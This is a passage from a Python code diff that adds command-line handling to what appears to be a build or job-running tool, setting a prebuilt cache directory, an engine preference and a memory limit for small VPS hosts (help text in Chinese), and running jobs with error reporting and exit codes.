+                        help="内存预算: 引擎设置软上限并按预算限制并发与缓冲, 接近上限时放慢 (小内存 VPS)")
+    args = parser.parse_args()
+    if args.prebuilt: BUILD_CACHE.prebuilt_dir = args.prebuilt
+    ENGINE_PREFERENCE = args.engine
+    MEMORY_LIMIT_MB = args.memory_limit
+    if args.jobs:
+        try: failed = run_jobs(args.jobs, args.summary)
+        except ValueError as e: print(styled(f"错误: {e}", "danger")); sys.exit(2)
+        sys.exit(1 if failed else 0)
     main()